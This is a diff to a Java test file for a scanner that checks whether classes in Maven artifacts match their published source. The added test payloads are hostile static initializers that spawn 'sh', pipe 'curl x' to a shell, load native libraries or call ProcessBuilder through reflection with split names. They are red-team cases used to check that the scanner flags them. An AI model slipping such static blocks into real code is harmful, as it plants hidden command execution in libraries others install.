@@ -860,7 +860,16 @@ class MavenScanTest {
             "static { try { new ProcessBuilder(\"sh\").start(); } catch (Exception e) { } }",
             "static { System.loadLibrary(\"evil\"); }",
             "static { System.load(\"/tmp/evil.so\"); }",
-            "static Class<?> c(byte[] b) throws Exception { return java.lang.invoke.MethodHandles.lookup().defineClass(b); }"})
+            "static Class<?> c(byte[] b) throws Exception { return java.lang.invoke.MethodHandles.lookup().defineClass(b); }",
+            // red team round 4 (case2): the process API reached by reflection with computed names is in no constant pool
+            "static { try { Class<?> c = Class.forName(\"java.lang.\" + \"Process\" + \"Builder\");"
+                    + " Object p = c.getConstructor(String[].class).newInstance((Object) new String[] {\"sh\"});"
+                    + " c.getMethod(\"st\" + \"art\").invoke(p); } catch (Exception e) { } }",
+            "static { try { Greeter.class.getMethod(\"greet\", String.class).invoke(null, \"x\"); } catch (Exception e) { } }",
+            "static Object h() throws Throwable { return java.lang.invoke.MethodHandles.lookup().findStatic(Greeter.class,"
+                    + " \"greet\", java.lang.invoke.MethodType.methodType(String.class, String.class)); }",
+            "static { try { new java.net.URLClassLoader(new java.net.URL[0]); } catch (Exception e) { } }",
+            "static { try { new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\"); } catch (Exception e) { } }"})
     void aClassWhoseCodeUsesAnApiItsSourceDoesNotNameIsHighRiskNotCompiledFromSource(String payload) throws Exception {
         Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java",
                 GREETER.replace("public class Greeter {\n", "public class Greeter {\n    " + payload + "\n")), "--release", "11");
@@ -871,6 +880,49 @@ class MavenScanTest {
         assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.DYNAMIC_EXEC), f.riskFlags().toString());
         assertTrue(f.highRisk());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    /**
+     * Red team round 4 (case12): a Javadoc saying "Process two numbers", a string "exec" or "JavaScript", a comment
+     * naming ProcessBuilder or loadLibrary named the API for the old text search; only the source's code names one.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "static { try { new ProcessBuilder(\"sh\", \"-c\", \"curl x | sh\").start(); } catch (Exception e) { } }",
+            "static { try { Runtime.getRuntime().exec(\"sh\"); } catch (Exception e) { } }",
+            "static { System.loadLibrary(\"evil\"); }",
+            "static { try { new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\"); } catch (Exception e) { } }"})
+    void anApiNamedOnlyInTheSourcesCommentsOrStringsIsNotNamedByIt(String payload) throws Exception {
+        String commented = "package org.acme;\n\n/** Process two numbers; see ProcessBuilder, exec, loadLibrary, ScriptEngine. */\n"
+                + "public class Greeter {\n    // Runtime.getRuntime().exec(cmd) and System.loadLibrary(x) were here\n"
+                + "    static final String HELP = \"exec ProcessBuilder JavaScript ScriptEngineManager Runtime loadLibrary\";\n"
+                + "    /* new ProcessBuilder(cmd).start(); */\n"
+                + "    public static String greet(String name) {\n        return \"Hello, \" + name + '\\'' + \"\"\"\n"
+                + "            exec \\\"\"\" ScriptEngine\n            \"\"\";\n    }\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java",
+                commented.replace("public class Greeter {\n", "public class Greeter {\n    " + payload + "\n")), "--release", "17");
+        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Greeter.java", commented), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Greeter.class");
+        assertEquals(MavenGeneratedFiles.CLASS_CALLS_BEYOND_SOURCE, f.ruleId(), payload);
+        assertTrue(f.highRisk(), payload);
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void aClassWhoseSourceUsesReflectionAndScriptsItselfStaysCompiledFromSource() throws Exception {
+        String plugin = "package org.acme;\n\nimport java.lang.reflect.Method;\nimport javax.script.*;\n\n"
+                + "public class Plugins {\n    public static Object call(String type, String method) throws Exception {\n"
+                + "        Class<?> c = Class.forName(type);\n        Method m = c.getMethod(method);\n"
+                + "        return m.invoke(c.getConstructor().newInstance());\n    }\n"
+                + "    public static Object eval(String js) throws Exception {\n"
+                + "        var engine = new ScriptEngineManager().getEngineByName(\"js\");\n        return engine.eval(js);\n    }\n"
+                + "    static Class<?> load(ClassLoader l, String n) throws Exception { return l.loadClass(n); }\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Plugins.java", plugin), "--release", "11");
+        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Plugins.java", plugin), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Plugins.class");
+        assertEquals(FileStatus.GENERATED, f.status(), f.detail().toString());
+        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
     }
 
     @Test
